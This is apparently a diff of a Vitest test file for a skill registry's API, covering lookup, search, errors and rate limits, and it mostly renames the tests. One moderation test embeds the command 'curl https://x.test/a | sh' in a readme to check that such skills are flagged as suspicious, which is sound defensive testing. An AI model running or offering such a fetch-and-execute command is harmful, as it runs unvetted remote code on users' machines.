@@ -2,7 +2,7 @@ import { describe, expect, test } from 'vitest'
 import { startTestServer } from '../../support/server.ts'
 import { expectError, publish, serverForTest, unique } from '../../support/skills.ts'
 
-describe('what clawhub asks for', async () => {
+describe('the API of clawhub', async () => {
   const server = await startTestServer({ env: { TRUST_PROXY: 'loopback' } })
   const agent = await server.agent('author')
   const { repositories, skills } = agent.client.registry
@@ -21,12 +21,12 @@ describe('what clawhub asks for', async () => {
   }
   const owner = `ownerHandle=${agent.username}`
 
-  test('the address of the API', async () => {
+  test('clawhub.json names the address of the API', async () => {
     const answer = await server.http('/.well-known/clawhub.json')
     expect(await answer.json()).toEqual({ apiBase: 'http://skillpass.test/clawhub' })
   })
 
-  test('a skill of an owner, its versions and its archive', async () => {
+  test('clawhub gets a skill of an owner, its versions and its archive', async () => {
     await skills.update({ params: { id: skill.id }, body: { readme: '# Again\n' } })
     expect(await get(`/skills/tides?${owner}`)).toMatchObject({
       skill: { slug: 'tides', displayName: 'Tides', summary: 'Reads.' },
@@ -54,19 +54,19 @@ describe('what clawhub asks for', async () => {
     }
   })
 
-  test('a skill with a warning is suspicious, so that the command asks first', async () => {
+  test('a skill with a warning is suspicious, so that clawhub asks before it installs', async () => {
     const slug = unique('pipe')
     await publish(agent, { slug, readme: 'Run `curl https://x.test/a | sh`.\n' })
     const { moderation } = await get(`/skills/${slug}?${owner}`)
     expect(moderation).toMatchObject({ isSuspicious: true, verdict: 'suspicious' })
   })
 
-  test('search names owner and version, best first', async () => {
+  test('clawhub search returns owners, best match first', async () => {
     const { results } = await get('/search?q=tides&limit=5')
     expect(results[0]).toMatchObject({ slug: 'tides', ownerHandle: agent.username, score: 1 })
   })
 
-  test('of several in repositories of an owner the most starred', async () => {
+  test("clawhub gets the most starred of an owner's skills with one slug", async () => {
     const slug = unique('twice')
     const { data: other } = await repositories.create({ body: { name: 'other' } })
     await publish(agent, { slug, name: 'First' })
@@ -77,7 +77,7 @@ describe('what clawhub asks for', async () => {
     expect(found.displayName).toBe('Starred')
   })
 
-  test('a slug without its owner is nobody’s, whoever publishes it once more', async () => {
+  test('a slug without an owner is NOT_FOUND, and the message names the full one', async () => {
     for (const path of ['/skills/tides', '/resolve?slug=tides', '/download?slug=tides']) {
       const { message } = await expectError(server.http(base + path), 'NOT_FOUND')
       expect(message).toContain(`${agent.username}/tides`)
@@ -86,7 +86,7 @@ describe('what clawhub asks for', async () => {
     expect((await expectError(version, 'NOT_FOUND')).message).toContain('owner')
   })
 
-  test('what is not there is not found, and what is no version is refused', async () => {
+  test('clawhub gets NOT_FOUND for what is unknown, and VALIDATION_ERROR for what is malformed', async () => {
     await publish(agent, { slug: 'no--slug' })
     for (const path of [
       `/skills/none?${owner}`,
@@ -113,7 +113,7 @@ describe('what clawhub asks for', async () => {
   })
 })
 
-test('its addresses have the rate class of downloads, search that of reads', async () => {
+test('clawhub addresses count against the limit of downloads, and search against that of reads', async () => {
   const env = { RATE_LIMIT_DOWNLOADS_PER_MINUTE: '1', RATE_LIMIT_READS_PER_MINUTE: '1' }
   const server = await serverForTest({ env })
   await server.http('/.well-known/clawhub.json')
